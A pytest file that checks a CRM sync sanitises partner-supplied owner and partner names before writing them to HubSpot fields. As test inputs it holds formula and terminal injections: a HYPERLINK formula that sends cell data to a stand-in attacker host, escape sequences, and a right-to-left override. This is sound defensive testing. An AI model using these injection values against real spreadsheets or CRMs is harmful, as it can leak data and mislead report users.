"""Owner names and partner names that a partner file controls, written into CRM fields (issue
15.8): on the HubSpot sandbox through the real tick, the company's partner and contact fields
carry no control character and no leading `= + - @` (a formula in CRM reports and exports)."""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from sqlalchemy import Engine

from sandbox.seed import SeedData, SeedPartner
from sandbox.world import World, running_world
from sync.logs import MASKER
from sync.tick import TickOptions, run_tick
from sync.wiring import build_connectors

pytestmark = pytest.mark.slow

PARTNER = SeedPartner("p-evil", "@Evil Partner", "services",
                      {"customer": "full", "open_opportunity": "full", "prospect": "full"})
OWNERS = [  # (owner_name, owner_email) per company
    ('=HYPERLINK("http://evil.example/?"&A1,"Open")', "+leak@evil.example"),
    ("\x1b]8;;http://evil.example\x1b\\Jane\x1b]8;;\x1b\\ \x1b[31mRoe\u202e", "jane@ok.example"),
    ("-2+3 Bob", "bob@evil.example"),
]


def _data() -> SeedData:
    companies = [{"id": f"88{n}", "properties": {"name": f"Target {n}",
                                                  "domain": f"target{n}.example"}}
                 for n in range(len(OWNERS))]
    rows = [{"external_id": f"EV-{n}", "name": f"Target {n}", "domain": f"target{n}.example",
             "website": "", "population": "customer", "owner_name": name, "owner_email": email}
            for n, (name, email) in enumerate(OWNERS)]
    return SeedData(sf_accounts=[], sf_opportunities=[], hs_companies=companies, hs_deals=[],
                    partners=[PARTNER], partner_rows={PARTNER.id: rows}, truth=frozenset(),
                    truth_population={}, truth_fuzzy=frozenset())


@pytest.fixture
def world(tmp_path: Path) -> Iterator[World]:
    with running_world(tmp_path / "world", data=_data(), salesforce=False) as w:
        MASKER.add(w.env().values())
        yield w


def test_partner_supplied_names_reach_crm_fields_without_controls_or_formulas(
    world: World, warehouse: Engine,
) -> None:
    config = world.config(warehouse.url.render_as_string(hide_password=False))
    connectors = build_connectors(config)
    for connector in connectors:
        connector.ensure_fields(check_only=False)
    run_tick(warehouse, config, connectors, options=TickOptions(backfill=True, kind="backfill"))

    assert world.hubspot is not None
    written = [world.hubspot.get("companies", f"88{n}") for n in range(len(OWNERS))]
    contacts = [c.get("ecosystem_partner_contacts") or "" for c in written]
    partners = [c.get("ecosystem_partners") or "" for c in written]
    assert partners == ["Evil Partner (customer)"] * len(OWNERS)
    assert contacts[0] == ('HYPERLINK("http://evil.example/?"&A1,"Open") '
                           "<leak@evil.example> (Evil Partner)")
    assert contacts[1].startswith("]8;;http://evil.example\\Jane]8;;\\ [31mRoe <jane@")
    assert contacts[2] == "2+3 Bob <bob@evil.example> (Evil Partner)"
    for value in contacts + partners:
        assert not re.search("[\x00-\x1f\x7f-\x9f\u202e]", value)
        for part in value.split("; "):
            assert not part.startswith(("=", "+", "-", "@"))
